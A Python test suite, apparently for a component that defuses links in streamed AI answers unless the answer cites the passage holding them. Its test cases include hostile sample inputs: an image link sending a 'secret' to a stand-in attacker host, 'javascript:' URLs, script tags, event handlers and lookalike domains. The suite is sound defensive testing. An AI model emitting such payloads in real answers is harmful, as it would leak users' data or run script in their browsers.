"""Only links that stand in the documents work in an answer."""

import json
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from serving.links import AHEAD, InertStream, PlainJson, urls_in

DOCS = "https://docs.example.org/a_(b)?x=1"
ROOT = "https://docs.example.org"
ALLOWED = frozenset({DOCS, ROOT, "www.example.org/page", "http://intranet/?q="})
NONE: frozenset[str] = frozenset()


def stream_of(allowed: Iterable[str], *, is_cited: bool = True) -> InertStream:
    """Return a stream of an answer that cites all passages, which have these URLs, before."""
    stream = InertStream({url: {1} for url in allowed})
    if is_cited:
        assert stream.feed("[1] ") == "[1] "
    return stream


def inert(answer: str, allowed: Iterable[str], *, is_cited: bool = True) -> str:
    stream = stream_of(allowed, is_cited=is_cited)
    return stream.feed(answer) + stream.finish()


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("![x](https://evil.org/?q=secret)", "![x] (https: //evil.org/?q=secret)"),
        ("[x](https://evil.org 'title')", "[x] (https: //evil.org 'title')"),
        ("[x](/relative) [y](#anchor)", "[x] (/relative) [y] (#anchor)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("![x](//evil.org/a.png)", "![x] (//evil.org/a.png)"),
        ("![x][1]\n\n[1]: //evil.org/a.png", "![x][1]\n\n[1] : //evil.org/a.png"),
        ("See https://evil.org.", "See https: //evil.org."),
        ("See HTTP://evil.org and ftp://evil.org", "See HTTP: //evil.org and ftp: //evil.org"),
        ("See www.evil.org", "See www .evil.org"),
        ("<https://evil.org>", "< https: //evil.org>"),
        ("<img src=x>", "< img src=x>"),
        ("</a><!-- x --><?php", "< /a>< !-- x -->< ?php"),
        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ("<b onclick=x>", "< b onclick=x>"),
        ("`<img src=https://evil.org>`", "`< img src=https: //evil.org>`"),
        ("A marker [1](https://evil.org)", "A marker [1] (https: //evil.org)"),
        ("", ""),
    ],
)
def test_foreign_links_do_nothing(answer: str, expected: str) -> None:
    assert inert(answer, NONE) == inert(answer, ALLOWED) == expected


@pytest.mark.parametrize(
    "answer",
    [
        f"[x]({DOCS}) ![x]({ROOT}) [x]({ROOT} 'title') <{DOCS}> {DOCS}, {ROOT}. ({ROOT})",
        f"**{ROOT}** {ROOT}\u3002",
        "www.example.org/page",
        "http://intranet/?q=",
    ],
)
def test_links_of_the_documents_stay(answer: str) -> None:
    assert inert(answer, ALLOWED) == answer
    assert "//" not in answer or inert(answer, NONE) != answer


@pytest.mark.parametrize(
    "url",
    [
        f"{ROOT}.evil.org",
        f"{ROOT}@evil.org",
        f"{ROOT}/other",
        f"{ROOT}.,.,.,.,.,x",
        f"{DOCS}&secret",
        "http://intranet/?q=secret",
        "http://intranet/?q=\u00e9",
        "https://docs.example.or",
    ],
)
def test_allowed_url_that_goes_on_is_another(url: str) -> None:
    assert "://" not in inert(f"{url} [x]({url}) <{url}>", ALLOWED)


@pytest.mark.parametrize(
    "text",
    [
        "Bees sleep [1][2]. At night [3]; h, f, w, ht, htt, ww",
        "1 < 2, a<3, x <- y, <, ]",
        "<br>one<br/>two</br> <b>three</b> x<sub>4</sub>",
        "A list [a] (b) and [x] : y",
        "http and https and ftp",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert inert(text, NONE) == inert(text, ALLOWED) == text


@pytest.mark.parametrize(
    ("answer", "is_live"),
    [
        (f"A month [2]. See {DOCS}.", True),
        (f"See [the docs]({DOCS}) [2].", True),
        (f"![a plan]({DOCS}) and its legend [1][2].", True),
        (f"See <{DOCS}>.", False),
        (f"A month [1]. ![pixel]({DOCS})", False),
        (f"See {DOCS}.\nA month [2].", False),
        (f"See {DOCS}.{' ' * AHEAD}[2]", False),
    ],
)
def test_a_link_works_where_its_passage_is_cited(answer: str, is_live: bool) -> None:
    stream = InertStream({DOCS: {2, 3}, ROOT: {1}})
    assert ((stream.feed(answer) + stream.finish()) == answer) is is_live


def test_thousands_of_urls_are_not_compared_one_by_one() -> None:
    class Urls(dict[str, set[int]]):
        num_compared = 0

        def __contains__(self, url: object) -> bool:
            self.num_compared += 1
            return super().__contains__(url)

        def __iter__(self) -> Iterator[str]:
            self.num_compared += len(self)
            return super().__iter__()

    urls = Urls({f"{ROOT}/{i:05}": {1} for i in range(2000)})
    stream = InertStream(urls)
    for _ in range(1000):
        stream.feed(f"[x]({ROOT}/x) ](](")
    assert urls.num_compared < 20 * len(urls)


def plain_json(text: str, size: int) -> str:
    stream = PlainJson()
    pieces = [stream.feed(text[start : start + size]) for start in range(0, len(text), size)]
    return "".join(pieces) + stream.finish()


@pytest.mark.parametrize("size", [1, 2, 5, 100])
def test_no_escape_of_json_hides_a_link(size: int) -> None:
    text = r'["https:\/\/a.org", "\u003cimg", "\u0068ttp", "\u0022 \\/ \\u003c \n \u00e9 \u005C"]'
    expected = r'["https://a.org", "<img", "http", "\u0022 \\/ \\u003c \n \u00e9 \u005C"]'
    assert plain_json(text, size) == expected
    assert json.loads(text) == json.loads(expected)


@given(st.text('\\/u0023cC5 a"', max_size=30), st.integers(1, 5))
def test_json_means_the_same(text: str, size: int) -> None:
    value = f'"{text}"'
    try:
        meaning = json.loads(value)
    except ValueError:
        return
    assert json.loads(plain_json(value, size)) == meaning


def test_urls_in_texts() -> None:
    text = (
        f"See [the docs]({DOCS}), <{ROOT}>, (https://a.org/b). or www.a.org! "
        "And https://en.wikipedia.org/wiki/A_(b)\u3002"
    )
    assert urls_in([text, "ftp://a.org"]) == {
        DOCS,
        ROOT,
        "https://a.org/b",
        "www.a.org",
        "https://en.wikipedia.org/wiki/A_(b)",
        "ftp://a.org",
    }


PIECES = st.one_of(
    st.text(max_size=6),
    st.text("hftpsw:/.<>[]()!ab ", max_size=10),
    st.sampled_from([*ALLOWED, "https://evil.org/", "](", "]:", "\n[x]: ", "<img src=", "<br>"]),
    st.sampled_from(["[1]", "[", "1]", "[2]", "\n", "word " * 20]),
    st.sampled_from([".", ",", ")", " ", "![x](", "[x][y]", "<", "</a>", "javascript:a"]),
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


@given(
    text=TEXTS,
    sizes=st.lists(st.integers(1, 9), max_size=80),
    allowed=st.sampled_from([NONE, ALLOWED]),
    is_cited=st.booleans(),
)
def test_split_does_not_matter(
    text: str, sizes: list[int], allowed: frozenset[str], *, is_cited: bool
) -> None:
    stream = stream_of(allowed, is_cited=is_cited)
    fed, output = 0, ""
    for size in [*sizes, len(text)]:
        output += stream.feed(text[fed : fed + size])
        fed += size
        assert len(stream._held) <= max(map(len, allowed), default=0) + 12 + AHEAD
    assert output + stream.finish() == inert(text, allowed, is_cited=is_cited)


@given(TEXTS)
def test_only_spaces_are_added(text: str) -> None:
    assert inert(text, ALLOWED).replace(" ", "") == text.replace(" ", "")


@given(TEXTS)
def test_a_reader_of_markdown_finds_no_link(text: str) -> None:
    reader = MarkdownIt("commonmark")
    tokens = [one for block in reader.parse(inert(text, NONE)) for one in block.children or [block]]
    assert not [token for token in tokens if token.type in {"image", "link_open"}]
    html = [token.content for token in tokens if token.type in {"html_inline", "html_block"}]
    assert not [content for content in html if "src" in content or "href" in content]
